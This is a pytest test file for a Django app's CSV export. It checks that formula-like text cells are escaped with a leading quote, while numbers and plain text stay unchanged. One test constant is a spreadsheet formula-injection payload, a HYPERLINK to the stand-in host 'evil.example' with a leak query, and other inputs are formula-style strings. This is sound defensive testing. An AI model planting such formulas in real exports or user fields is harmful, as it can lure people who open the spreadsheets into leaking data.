"""Every CSV export goes through one writer that keeps spreadsheet formulas out of text cells."""
import csv
import io
from decimal import Decimal

import pytest

from apps.common.csv_writer import csv_cell, csv_writer
from apps.uploads.services import image_upload_create
from tests.factories import image_bytes

HOSTILE = '=HYPERLINK("http://evil.example/?leak","click")'


@pytest.mark.parametrize("text", [HOSTILE, "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"])
def test_formula_text_is_quoted(text):
    """A text cell that a spreadsheet would run as a formula gets a leading single quote."""
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-3, 0.25, -0.5, Decimal("-1.50"), None, True])
def test_numbers_stay_numbers(value):
    """Numbers, negative ones included, are written unchanged."""
    assert csv_cell(value) == value
    safe, plain = io.StringIO(), io.StringIO()
    csv_writer(safe).writerow([value])
    csv.writer(plain).writerow([value])
    assert safe.getvalue() == plain.getvalue()


def test_plain_text_is_untouched():
    """Ordinary text (dates, names, paths) is written as it is."""
    assert [csv_cell(v) for v in ["2026-01-01T10:00:00", "gato", "train/gato/1.jpg"]] == [
        "2026-01-01T10:00:00",
        "gato",
        "train/gato/1.jpg",
    ]


@pytest.mark.django_db
def test_activity_export_neutralises_hostile_names(world, client):
    """The grader's uploads export shows a formula-like user name and file name as text."""
    world.student.username = HOSTILE
    world.student.save()
    image_upload_create(project=world.project, uploader=world.student, raw=image_bytes(), name="=1+1.jpg")
    client.force_login(world.grader)
    response = client.get("/history/activity/?kind=uploads&format=csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    header, row = rows[0], rows[1]
    assert row[header.index("Subida por")] == "'" + HOSTILE
    assert row[header.index("Nombre del archivo")] == "'=1+1.jpg"
    assert row[header.index("ID de la imagen")].isdigit()


def test_class_names_cannot_start_with_a_formula_sign():
    """Class and tag names (written raw into training manifests) never start with '-'."""
    from apps.projects.services import CLASS_NAME_RE

    assert CLASS_NAME_RE.fullmatch("-gato") is None
    assert CLASS_NAME_RE.fullmatch("gato-negro") is not None
